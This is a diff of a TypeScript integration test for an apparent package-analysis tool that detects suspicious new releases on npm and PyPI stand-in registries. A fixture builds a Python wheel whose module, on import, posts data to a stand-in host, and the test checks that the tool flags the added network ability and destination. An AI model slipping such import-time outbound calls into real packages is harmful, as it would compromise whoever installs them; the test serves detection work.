@@ -1,11 +1,19 @@
 import { mkdtemp, rm } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import type { ResolvedRelease, VerdictEvent } from '@weir/model';
-import { createNpmFeed, createRequests, unlimitedAllowance } from '@weir/registries';
+import type { Clock, RegistryFeed, ResolvedRelease, VerdictEvent } from '@weir/model';
+import {
+  createNpmFeed,
+  createPypiFeed,
+  createRequests,
+  type Requests,
+  unlimitedAllowance,
+} from '@weir/registries';
 import { type NpmStandIn, type Publication, startNpmStandIn } from '@weir/registries/npm/stand-in';
+import { startPypiStandIn } from '@weir/registries/pypi/stand-in';
 import { createHttpClient, systemClock } from '@weir/runtime';
 import { startTestPostgres, type TestPostgres } from '@weir/store/testing';
+import { zip } from '@weir/testkit/archive';
 import { afterAll, afterEach, beforeAll, beforeEach, expect, it, vi } from 'vitest';
 import { type AnalyzerHarness, openHarness } from './testing/harness.ts';
 
@@ -38,9 +46,33 @@ afterEach(async () => {
   await rm(evidenceDir, { recursive: true, force: true });
 });
 
+function ago(days: number): string {
+  return new Date(systemClock.now() - days * 24 * 60 * 60 * 1000).toISOString();
+}
+
 function padder(version: string, daysAgo: number, code: string): Publication {
-  const time = new Date(systemClock.now() - daysAgo * 24 * 60 * 60 * 1000).toISOString();
-  return { name: 'weir-pad', version, time, files: { 'index.js': code } };
+  return { name: 'weir-pad', version, time: ago(daysAgo), files: { 'index.js': code } };
+}
+
+/** Every release of `weir-pad` as a registry resolves it. */
+async function resolve(
+  openFeed: (deps: { readonly requests: Requests; readonly clock: Clock }) => RegistryFeed,
+): Promise<readonly ResolvedRelease[]> {
+  await using http = createHttpClient({ userAgent: 'weir-test' });
+  await using requests = createRequests({
+    http,
+    clock: systemClock,
+    random: () => 0,
+    allowance: unlimitedAllowance,
+  });
+  const feed = openFeed({ requests, clock: systemClock });
+  const resolved = await feed.resolve(
+    'weir-pad',
+    { known: new Set(), fresh: true },
+    AbortSignal.timeout(10_000),
+  );
+  if (resolved.kind !== 'present') throw new Error('weir-pad is absent');
+  return resolved.releases;
 }
 
 /** An honest package of years and its next patch release, which sends; a prerelease of another line lies between. */
@@ -51,21 +83,7 @@ async function publish(): Promise<readonly ResolvedRelease[]> {
     padder('1.4.3', 0, SENDING),
   ];
   for (const publication of publications) standIn.world.publish([publication]);
-  await using http = createHttpClient({ userAgent: 'weir-test' });
-  await using requests = createRequests({
-    http,
-    clock: systemClock,
-    random: () => 0,
-    allowance: unlimitedAllowance,
-  });
-  const feed = createNpmFeed({ documentsBase: standIn.url, requests, clock: systemClock });
-  const resolved = await feed.resolve(
-    'weir-pad',
-    { known: new Set(), fresh: true },
-    AbortSignal.timeout(10_000),
-  );
-  if (resolved.kind !== 'present') throw new Error('weir-pad is absent');
-  return resolved.releases;
+  return resolve((deps) => createNpmFeed({ ...deps, documentsBase: standIn.url }));
 }
 
 /** Announces one version; returns its file's id. */
@@ -152,4 +170,39 @@ it('finds its analysis again when the message comes twice', async () => {
 
   expect((await recorded()).versions).toEqual(['1.4.3', '2.0.0-beta.1']);
   expect([asked('1.4.3'), asked('1.4.2')]).toEqual([1, 1]);
+});
+
+it('takes of several files of a release of PyPI the one that is most like its own', async () => {
+  await using stack = new AsyncDisposableStack();
+  const pypi = stack.use(await startPypiStandIn());
+  const databaseUrl = await postgres.createDatabase();
+  const other = stack.use(await openHarness({ databaseUrl, origin: new URL(pypi.url).origin, evidenceDir }));
+  await other.listen();
+  await other.start();
+  const wheel = (version: string, code: string) => ({
+    filename: `weir_pad-${version}-py3-none-any.whl`,
+    content: zip()
+      .file(
+        `weir_pad-${version}.dist-info/METADATA`,
+        `Metadata-Version: 2.1\nName: weir-pad\nVersion: ${version}\n`,
+      )
+      .file('weir_pad/__init__.py', code)
+      .build(),
+  });
+  const pad = 'def pad(text, width):\n    return text.rjust(width)\n';
+  const sends = `import urllib.request\n${pad}urllib.request.urlopen("https://lines.weir.example/note", data=b"loaded")\n`;
+  const files = ['weir_pad-1.4.2.tar.gz', wheel('1.4.2', pad)];
+  pypi.world.upload({ name: 'weir-pad', version: '1.4.2', time: ago(400), files });
+  pypi.world.upload({ name: 'weir-pad', version: '1.4.3', time: ago(0), files: [wheel('1.4.3', sends)] });
+  const addresses = { simple: `${pypi.url}/simple`, json: null, rss: null };
+  const releases = await resolve((deps) => createPypiFeed({ ...deps, addresses }));
+
+  const update = releases.filter(({ version }) => version === '1.4.3');
+  await other.announceResolved(update, 'pypi');
+
+  await vi.waitFor(() => expect(other.verdicts).toHaveLength(1), PATIENCE);
+  const rows = await other.query(`SELECT rule FROM findings WHERE detector = 'capability-delta' ORDER BY 1`);
+  expect(rows).toEqual([{ rule: 'capability-delta/ability' }, { rule: 'capability-delta/destination' }]);
+  const files142 = pypi.requests.filter(({ path }) => /pad-1\.4\.2[^/]*$/.test(path));
+  expect(files142.map(({ path }) => path.split('/').at(-1))).toEqual(['weir_pad-1.4.2-py3-none-any.whl']);
 });
